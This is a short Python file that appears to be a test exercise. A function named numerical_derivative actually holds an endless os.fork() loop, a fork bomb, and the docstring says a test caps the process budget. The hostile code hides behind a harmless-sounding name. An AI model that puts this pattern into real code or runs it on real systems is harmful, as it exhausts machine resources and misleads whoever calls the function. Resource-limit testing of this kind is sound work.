"""Evil exercise 1.1: forks until the process budget is gone (the test sets a small one)."""

import os
import time


def numerical_derivative(f, x, h=1e-5):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
